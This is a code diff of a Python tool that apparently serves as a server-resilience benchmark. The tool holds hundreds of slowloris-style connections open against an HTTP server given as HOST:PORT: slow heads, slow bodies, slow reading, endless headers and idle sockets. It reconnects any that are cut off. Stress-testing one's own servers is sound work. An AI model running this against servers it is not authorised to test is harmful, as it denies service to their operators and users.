@@ -1,12 +1,16 @@
 # SPDX-License-Identifier: BSD-3-Clause
 """Bad clients of an HTTP server, all at once, from one process: slow heads, slow bodies, slow reading, heads without
-end, and idle connections. Who is cut off comes back. Says "ready" when everybody is there once, and ends with its
-stdin.
+end, and idle connections. Each has its turn at its own time, and who is cut off comes back at the next. Says "ready"
+when everybody is there once, and ends with its stdin.
+
+From then on it has a processor only where nobody else wants it (SCHED_IDLE, sched(7)): real attackers would be on
+machines of their own, and what the victim's neighbours feel is to come from the victim.
 
 python3 -m versus.attackers HOST:PORT [--idle 10000]
 """
 
 import argparse
+import os
 import select
 import socket
 import sys
@@ -14,20 +18,19 @@ import sys
 from versus import process
 
 EACH = 100  # connections of each kind that is not idle
-TICK_S = 0.1
-MOST_OPENED_A_TICK = 200
+TICK_S = 0.01
 ENDLESS = b"X-Filler: " + b"a" * 500 + b"\r\n"
 GET = b"GET / HTTP/1.1\r\nHost: victim\r\n"
 TINY_WINDOW = 4096
 
 
 class Attacker:
-    """One connection with its manner: what it says at first, and at every tick."""
+    """One connection with its manner: what it says at first, and at every turn; one in so many ticks is its own."""
 
-    def __init__(self, address: tuple[str, int], first: bytes, then: bytes, ticks: int, reads: bool = True):
+    def __init__(self, address: tuple[str, int], first: bytes, then: bytes, period: int, reads: bool = True):
+        self.period = period
         self._address = address
-        self._first, self._then, self._ticks, self._reads = first, then, ticks, reads
-        self._age = 0
+        self._first, self._then, self._reads = first, then, reads
         self._socket: socket.socket | None = None
 
     def open(self) -> None:
@@ -55,11 +58,10 @@ class Attacker:
     def is_open(self) -> bool:
         return self._socket is not None
 
-    def tick(self) -> None:
-        """Goes on, if it is time; finds out whether it was cut off."""
-        self._age += 1
-        if self._age % self._ticks or not self._socket:
-            return
+    def turn(self) -> None:
+        """Goes on, or comes back; finds out whether it was cut off."""
+        if not self._socket:
+            return self.open()
         self._say(self._then)
         if self._socket and self._reads and not self._drain():
             self.close()
@@ -87,13 +89,25 @@ def attackers(address: tuple[str, int], idle: int) -> list[Attacker]:
     upload = b"POST / HTTP/1.1\r\nHost: victim\r\nContent-Length: 1000000\r\n\r\n"
     many = (GET + b"\r\n") * 200
     kinds = [
-        lambda: Attacker(address, GET, b"X", 10),
-        lambda: Attacker(address, upload, b"X", 10),
-        lambda: Attacker(address, many, many, 1, reads=False),
-        lambda: Attacker(address, GET, ENDLESS * 20, 1),
+        lambda: Attacker(address, GET, b"X", 100),
+        lambda: Attacker(address, upload, b"X", 100),
+        lambda: Attacker(address, many, many, 10, reads=False),
+        lambda: Attacker(address, GET, ENDLESS * 20, 10),
     ]
-    return [kind() for kind in kinds for _ in range(EACH)] + [Attacker(address, GET + b"\r\n", b"", 50)
+    return [kind() for kind in kinds for _ in range(EACH)] + [Attacker(address, GET + b"\r\n", b"", 500)
                                                               for _ in range(idle)]
+
+
+def by_period(everybody: list[Attacker]) -> dict[int, list[Attacker]]:
+    groups: dict[int, list[Attacker]] = {}
+    for one in everybody:
+        groups.setdefault(one.period, []).append(one)
+    return groups
+
+
+def whose_turn(groups: dict[int, list[Attacker]], tick: int) -> list[Attacker]:
+    """Of each group as many in every tick, so that they do not all come at the same instant."""
+    return [one for period, group in groups.items() for one in group[tick % period::period]]
 
 
 def main() -> int:
@@ -106,13 +120,14 @@ def main() -> int:
     everybody = attackers((host, int(port)), options.idle)
     for one in everybody:
         one.open()
+    groups = by_period(everybody)
+    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
     print("ready", flush=True)
+    tick = 0
     while not select.select([sys.stdin], [], [], TICK_S)[0]:
-        back = [one for one in everybody if not one.is_open][:MOST_OPENED_A_TICK]
-        for one in back:
-            one.open()
-        for one in everybody:
-            one.tick()
+        for one in whose_turn(groups, tick):
+            one.turn()
+        tick += 1
     for one in everybody:
         one.close()
     return 0
